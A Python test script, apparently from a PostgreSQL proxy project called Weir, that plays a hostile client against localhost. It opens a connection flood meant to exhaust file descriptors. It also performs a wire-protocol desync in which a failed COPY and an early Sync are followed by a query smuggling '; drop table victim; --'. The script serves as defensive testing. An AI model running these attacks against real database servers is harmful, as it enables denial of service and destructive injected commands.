#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What hostile agents try. Arguments: what to do, a port, and what else it needs; prints facts."""

import socket
import struct
import sys
import time


def connect(port):
    return socket.create_connection(("127.0.0.1", int(port)), 5)


def flood(port, count):
    """More connections than Weir has descriptors for, all open at once."""
    held = []
    for _ in range(int(count)):
        try:
            held.append(connect(port))
        except OSError:
            pass
    time.sleep(0.5)
    print(f"tried={count}")


def message(kind, body=b""):
    return kind + struct.pack(">I", len(body) + 4) + body


def query(text):
    return message(b"Q", text.encode() + b"\0")


class Postgres:
    def __init__(self, port):
        self.sock = connect(port)
        self.left = b""
        body = struct.pack(">I", 196608) + b"user\0postgres\0database\0postgres\0\0"
        self.sock.sendall(struct.pack(">I", len(body) + 4) + body)
        self.until(b"Z")

    def until(self, kinds):
        """Messages up to one of these kinds; ends early when the connection does."""
        while True:
            while len(self.left) < 5 or len(self.left) <= struct.unpack(">I", self.left[1:5])[0]:
                data = self.sock.recv(65536)
                if not data:
                    return b""
                self.left += data
            kind = self.left[:1]
            self.left = self.left[struct.unpack(">I", self.left[1:5])[0] + 1:]
            if kind in kinds:
                return kind


def copy_sync(port, junk):
    """A failed COPY, a Sync that was sent before the failure was known, and while the server still
    reads what lies between the two: a SET that changes how the next text reads."""
    pg = Postgres(port)
    pg.sock.sendall(query("create temp table t (a int, b text default pg_sleep(0.3)::text)"))
    pg.until(b"Z")
    pg.sock.sendall(message(b"P", b"\0copy t (a) from stdin\0\0\0") +
                    message(b"B", b"\0\0\0\0\0\0\0\0") + message(b"E", b"\0\0\0\0\0") + message(b"H"))
    pg.until(b"G")
    pg.sock.sendall(message(b"d", b"1\n") + message(b"d", b"bad\n") +
                    message(b"d", b"x" * 60000) * int(junk) + message(b"S"))
    pg.until(b"E")
    try:
        pg.sock.sendall(query("set standard_conforming_strings = off") +
                        query("select '\\', '; drop table victim; --'"))
        for _ in range(3):
            pg.until(b"Z")
    except OSError:
        pass
    print("sent")


if __name__ == "__main__":
    {"flood": flood, "copy_sync": copy_sync}[sys.argv[1]](*sys.argv[2:])
